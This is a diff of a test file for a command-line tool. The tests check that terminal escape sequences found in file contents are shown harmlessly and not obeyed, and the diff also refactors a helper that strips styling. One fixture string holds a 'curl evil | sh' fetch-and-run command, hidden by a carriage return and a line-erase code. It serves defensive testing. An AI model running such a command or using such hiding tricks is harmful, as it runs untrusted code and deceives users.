@@ -68,7 +68,20 @@ describe('no control character or direction mark of a file, a name or an answer 
 })
 
 /** What the command itself writes to a terminal: colours, and the deletion of a line. */
-const BORROWED = ['\u001b[8mhidden\u001b[0m', 'curl evil | sh\r\u001b[Kharmless', '\u001b[31mred', '\u001b[1;31mred', '\u001b[38;5;1m']
+const BORROWED = [
+  '\u001b[8mhidden\u001b[0m',
+  'curl evil | sh\r\u001b[Kharmless',
+  '\u001b[31mred',
+  '\u001b[1;31mred',
+  '\u001b[38;5;1m',
+  '\u001b[7mred',
+]
+
+/** Removes the styles that begin and end like those of the command, from inside out. */
+function withoutStyles(text: string): string {
+  const left = text.replace(/\u001b\[(?:1|2|7|31|32|33|36)m((?:(?!\u001b).)*)\u001b\[(?:22|27|39)m/gs, '$1')
+  return left === text ? text : withoutStyles(left)
+}
 
 describe('a sequence of the kind that the command writes itself is shown, not obeyed, with colours on and off', () => {
   const file = BORROWED.join('\n')
@@ -92,9 +105,7 @@ describe('a sequence of the kind that the command writes itself is shown, not ob
       writeFileSync(join(root, 'b.txt'), `${file}\nnew\u001b[8m\nlast\n`)
       const env = color === 'always' ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }
       const { out, err } = await suture(root, args, { stdin, outIsTerminal: true, errIsTerminal: true, env })
-      // Only the styles that begin and end like those of the command.
-      const left = (out + err).replace(/\u001b\[(1|2|31|32|33|36)m((?:(?!\u001b).)*)\u001b\[(?:22|39)m/gs, color === 'always' ? '$2' : '$&')
-      expect(left.match(ACTIVE)).toBeNull()
+      expect((color === 'always' ? withoutStyles(out + err) : out + err).match(ACTIVE)).toBeNull()
       expect(out + err).not.toBe('')
       expect(out + err).not.toContain('\u001b[8m')
     },
